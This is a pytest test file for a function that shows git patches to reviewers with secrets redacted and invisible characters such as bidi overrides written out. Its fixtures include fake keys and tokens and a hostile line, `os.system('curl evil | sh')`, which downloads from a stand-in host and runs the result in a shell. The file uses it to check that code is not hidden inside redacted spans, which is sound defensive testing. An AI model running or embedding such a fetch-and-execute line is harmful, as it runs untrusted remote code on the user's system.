"""What people are shown of a patch: all of it but its secrets, line for line."""

from __future__ import annotations

import ast
import json
import re
from functools import partial
from itertools import zip_longest
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handlers.text import sanitize
from handlers.text.sanitize import redact
from handlers.text.shown_patch import show_patch
from handlers.words.report_comment import approvable
from runner.changes.patch import list_lines
from runner.characters import unescape_invisible
from tests.handlers.test_report_comment import done, render, result
from tests.support.cpu_time import measure_longest_call, no_garbage_collection, takes_at_most

TOKEN = "ghp_" + "a1" * 20
LIVE = 'live "secret"\nwhose second line is long enough\nend'
BEGIN, END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
BODY = ["MIIEpAIBAAKCAQEA" * 4, "q7Yx+/Zk0123ABCD" * 4, "AQ=="]
KEY = [BEGIN, *BODY, END]
EVIL = ["import os", "os.system('curl evil | sh')"]


def write_file(name: str, *hunks: list[str], heading: str = "") -> str:
    """What a patch says of a file; each line of a hunk has its mark."""
    head = f"diff --git a/{name} b/{name}\nindex 1234567..89abcde 100644\n--- a/{name}\n+++ b/{name}\n"
    return head + "".join(
        f"@@ -{number},9 +{number},9 @@{heading}\n" + "".join(f"{line}\n" for line in lines)
        for number, lines in enumerate(hunks, 1)
    )


def mark(char: str, lines: list[str]) -> list[str]:
    return [f"{char}{line}" for line in lines]


def read_back(patch: str, *secrets: str) -> None:
    """That what a page or a comment shows of a patch says all of it but the masked lines."""
    shown = show_patch(patch, secrets)
    masked = {line.number for line in shown.masked}
    lines, originals = shown.text.replace("\r\n", "\n").split("\n"), patch.split("\n")
    assert len(lines) == len(originals)
    files = dict(enumerate(line.file for line in list_lines(patch)))
    for number, (line, original) in enumerate(zip(lines, originals, strict=True)):
        if number not in masked:
            returns = "\r" * (files.get(number) in shown.returning)
            assert original in (unescape_invisible(line), unescape_invisible(line) + returns)
        else:
            assert line[:1] == original[:1] or line == "[redacted]"
    assert shown.is_exact == (shown.text == patch)


@pytest.mark.parametrize("char", ["+", " ", "-"])
def test_the_ends_of_a_key_around_a_file_hide_nothing_of_it(char: str) -> None:
    """Before, everything from the first to the last line of what looked like a key was shown as one word."""
    patch = (
        write_file("a.txt", [f"{char}{BEGIN}"]) + write_file("evil.py", mark("+", EVIL))
        + write_file("z.txt", [f"{char}{END}"])
    )  # fmt: skip
    assert "evil.py" not in redact(patch), "the rule for logs still takes it for one key"
    shown = show_patch(patch, ())
    assert shown.text == patch
    assert shown.masked == []


@pytest.mark.parametrize("within", [EVIL, ["", *EVIL], [*EVIL, BODY[0]], [BODY[2], *EVIL]])
def test_the_ends_of_a_key_around_code_in_one_file_hide_no_code(within: list[str]) -> None:
    patch = write_file("evil.py", [f" {BEGIN}", *mark("+", within), f" {END}"])
    for line in EVIL:
        assert f"+{line}\n" in show_patch(patch, ()).text


@pytest.mark.parametrize("char", "+- ")
@pytest.mark.parametrize(
    "key",
    [
        KEY,
        [f'"{line}\\n"' for line in KEY],
        [f"    {line}\r" for line in KEY],
        [BEGIN, "Proc-Type: 4,ENCRYPTED", "", *BODY, END],
        [f'out.write("{line}")' for line in KEY if line != "AQ=="],
        [BEGIN, *BODY[:2]],
        [*BODY[1:], END],
        ["\\n".join(KEY)],
        LIVE.split("\n"),
        [f"token = {TOKEN}"],
        ["whose second line is long enough"],
    ],
)
def test_a_secret_is_masked_line_by_line_with_its_marks(char: str, key: list[str]) -> None:
    others = [" before()", " after()"]
    patch = write_file("k.py", [others[0], *mark(char, key), others[1]]) + write_file("other.py", mark("+", EVIL))
    shown = show_patch(patch, [LIVE])
    inside = shown.text.split("\n")[5 : 7 + len(key)]
    assert inside == [others[0], *[f"{char}[redacted]"] * len(key), others[1]]
    kind = {"+": "added", "-": "removed", " ": "unchanged"}[char]
    lines = "line" if len(key) == 1 else "lines"
    assert shown.remarks() == [
        f"{len(key)} {kind} {lines} with what looks like a secret, masked in the diff of `k.py`",
        "the diff cannot be applied as it is shown, for some of it is masked or written out",
    ]
    assert {line.is_proposed for line in shown.masked} == {char == "+"}
    assert show_patch(patch, [LIVE], shapes=()).masked == (shown.masked if key[-1] in LIVE else [])
    read_back(patch, LIVE)


ODD = "sk-live+Q/w'e\"r<t>&y=Zx9_aB$cd%12"


@pytest.mark.parametrize("char", "+- ")
@pytest.mark.parametrize(
    "line",
    [
        json.dumps(ODD).replace("/", "\\/"),
        repr(ODD),
        re.sub(r"([^\w+/=%.-])", r"\\\1", ODD),
        f"a\\'b = {ODD[:9]}\\{ODD[9:]} # \\'",
    ],
)
def test_a_live_secret_that_is_spelled_with_backslashes_is_masked(char: str, line: str) -> None:
    patch = write_file("k.py", [" before('\\/')", f"{char}{line}", " after('\\/')"])
    shown = show_patch(patch, [ODD])
    assert shown.text.split("\n")[5:8] == [" before('\\/')", f"{char}[redacted]", " after('\\/')"]
    read_back(patch, ODD)


def test_an_expression_that_looks_for_credentials_stays() -> None:
    patch = write_file("a.js", [r"+const URL = /https?:\/\/[^\s:]+:[^@]+@/;"])
    assert show_patch(patch, [ODD]).is_exact


def test_a_key_of_which_a_part_stays_is_masked_on_both_sides() -> None:
    patch = write_file("k", [f" {BEGIN}", f"-{BODY[0]}", f"+{BODY[1]}", f" {BODY[2]}", f" {END}"])
    shown = show_patch(patch, ())
    assert shown.text.endswith(" [redacted]\n-[redacted]\n+[redacted]\n [redacted]\n [redacted]\n")
    assert [line.is_proposed for line in shown.masked] == [False, False, True, False, False]


def test_a_secret_in_a_files_name_is_proposed_and_one_that_a_hunks_head_quotes_is_not() -> None:
    shown = show_patch(write_file(TOKEN, ["+x"]), ())
    assert TOKEN not in shown.text
    assert shown.text.startswith(
        "diff --git [redacted]\nindex 1234567..89abcde 100644\n--- [redacted]\n+++ [redacted]\n"
    )
    assert {line.is_proposed for line in shown.masked} == {True}
    shown = show_patch(write_file("a.py", ["-x"], heading=f" KEY = '{TOKEN}'"), ())
    assert "\n@@ -1,9 +1,9 @@ [redacted]\n-x\n" in shown.text
    assert {line.is_proposed for line in shown.masked} == {False}


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("a\u202eb", "a⟨U+202E⟩b"),
        ("a⟨U+202E⟩b", "a⟨U+27E8⟩U+202E⟩b"),
        ("a⟨0xE9⟩b⟨c⟩", "a⟨U+27E8⟩0xE9⟩b⟨c⟩"),
        ("x = 1 # \revil()", "x = 1 # ⟨U+000D⟩evil()"),
        ("x\r\r", "x⟨U+000D⟩\r"),
        ("x\r", "x\r"),
        *((f"//{char}evil()", f"//⟨U+{ord(char):04X}⟩evil()") for char in "\u2028\u2029\x85\x0b\x0c\x1c\x1d\x1e\0"),
        ("caf\U0010ffe9", "caf⟨0xE9⟩"),
        ("[redacted]", "[redacted]"),
    ],
)
def test_what_nobody_would_see_is_written_out_so_that_it_can_be_read_back(text: str, seen: str) -> None:
    patch = write_file("a.py", [f"+{text}"])
    shown = show_patch(patch, ())
    assert shown.text == patch.replace(text, seen)
    assert shown.is_exact == (text == seen)
    read_back(patch)


def test_a_carriage_return_at_the_end_of_a_file_is_written_out() -> None:
    patch = write_file("a.py", ["+x\r", "\\ No newline at end of file"])
    assert "+x⟨U+000D⟩\n\\ No newline" in show_patch(patch, ()).text
    read_back(patch)


@pytest.mark.parametrize("char", "+ -")
def test_a_comment_shows_what_stands_between_the_ends_of_a_key_and_refuses_a_key_that_is_added(char: str) -> None:
    ends = [write_file(name, [f"{char}{end}"]) for name, end in (("a.txt", BEGIN), ("z.txt", END))]
    report = result(patch=ends[0] + write_file("evil.py", mark("+", EVIL)) + ends[1])
    text = render(report=report)
    assert "\n" + "".join(f"+{line}\n" for line in EVIL) in text
    assert approvable(done(), report, ())
    report = result(patch=report.patch + write_file("k.txt", mark(char, KEY)))
    text = render(report=report)
    assert ("A possible secret is added in `k.txt`" in text) is (char == "+")
    assert approvable(done(), report, ()) is ("/ptq pr" in text) is (char != "+")


def find_wrong_calls(source: str) -> list[str]:
    """Calls that would show a patch in another way, or split its lines where git does not."""
    if "patch" not in source.lower():
        return []
    calls = [node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.Call)]
    return [
        ast.unparse(call)
        for call in calls
        for name in [getattr(call.func, "attr", getattr(call.func, "id", ""))]
        if (name in ("redact", "make_safe", "show_invisible", "_clean_text") and "patch" in ast.unparse(call).lower())
        or (name == "splitlines" and "patch" in ast.unparse(call.func).lower())
    ]


def test_a_carriage_return_at_the_end_of_one_line_is_written_out() -> None:
    """To a shell it is a word: this one ran `deploy` without its option."""
    patch = write_file("a.sh", ["+deploy \\\r", "+  --dry-run"])
    shown = show_patch(patch, ())
    assert "+deploy \\⟨U+000D⟩\n+  --dry-run\n" in shown.text
    assert (shown.returning, shown.is_exact) == ([], False)
    read_back(patch)


def test_a_file_whose_every_line_ends_so_is_named_and_can_be_applied() -> None:
    windows = write_file("a.bat", [" one\r", "-two\r", "+three\r"])
    shown = show_patch(windows + write_file("b.sh", ["-x\r", "+x"]), ())
    assert windows in shown.text
    assert "-x⟨U+000D⟩\n+x\n" in shown.text
    assert shown.remarks()[0] == "every line of `a.bat` ends with a carriage return (Windows line ends)"
    assert show_patch(windows, ()).is_exact


@pytest.mark.slow
def test_a_patch_is_shown_by_this_function_alone_and_split_where_git_splits() -> None:
    root = Path(sanitize.__file__).parents[2]
    sources = [path.read_text() for floor in ("bot", "handlers", "runner") for path in (root / floor).rglob("*.py")]
    assert len(sources) > 200
    assert [call for source in sources for call in find_wrong_calls(source)] == []
    old = "shown = show_invisible(redact(report.patch, secrets))\nlines = patch.splitlines()"
    assert len(find_wrong_calls(old)) == 3


PIECES = st.sampled_from(
    [
        *(
            "+",
            "-",
            " ",
            "\\",
            "@@ -1 +1 @@ ",
            "diff --git a/x b/x",
            "\n",
            "\n",
            "\n+",
            "\n-",
            "\n ",
            "\r",
            "\r\n",
            "\0",
        ),
        *("⟨U+202E⟩", "⟨", "⟨U+", "⟨0xE9⟩", "\u202e", "\u200b", "\u2028", "\x85", "\U0010ffe9", "\U0010ff00", "é", "x"),
        *(TOKEN, *KEY, *LIVE.split("\n"), "authorization: ", "bearer " + "a1" * 10, "\\ No newline at end of file"),
        *("GIT binary patch\n", "--- a/x", "+++ b/x", "[redacted]", "code(word)", "\t"),
    ]
)


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_whatever_a_patch_holds_all_but_its_secrets_can_be_read_back(text: str) -> None:
    for patch in (text, write_file("a.py", text.split("\n"))):
        read_back(patch, LIVE)
        shown = show_patch(patch, [LIVE]).text
        assert LIVE not in shown
        assert TOKEN not in shown
        assert "whose second line is long enough" not in shown
        kinds = [line.kind for line in list_lines(patch)]
        again = [line.kind for line in list_lines(shown)]
        assert all(one == other or "header" in (one, other) for one, other in zip_longest(kinds, again)), "same marks"


@pytest.mark.slow
def test_a_long_patch_takes_no_longer_for_each_line_than_a_short_one() -> None:
    hostile = [
        [BEGIN, "A" * 16, END, "", BEGIN, "check()", END],
        ["A" * 16],
        [""],
        [BEGIN],
        [END],
        ["A" * 15],
        [BEGIN, ""],
    ]
    for lines in hostile:
        short, long = (
            write_file("a.py", [f"+{number}", *mark("+", lines * number), "+PRIVATE KEY"]) for number in (1_000, 8_000)
        )
        assert takes_at_most(20, partial(show_patch, short, ()), partial(show_patch, long, ())), lines
        assert len(show_patch(long, ()).masked) == (24_000 if len(lines) == 7 else 0)


@pytest.mark.slow
@pytest.mark.parametrize(
    "line",
    [
        "+def forward(self, x_1): return value * 0x3f  # note",
        f"+{40 * 'a'}\\*",
        f"-{40 * 'a'}\u2600\ufe0f",
        "-" + "curl -u " * 240_000,
        "+" + "api-key: " * 200_000,
    ],
    ids=["code", "escapes", "selectors", "curl", "headers"],
)
def test_other_threads_run_while_megabytes_are_made_ready_for_people(line: str) -> None:
    patch = "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n" + f"{line}\n" * (2_000_000 // len(line))
    with no_garbage_collection():
        assert measure_longest_call(lambda: show_patch(patch, ["hunter2hunter2"])) < 0.05
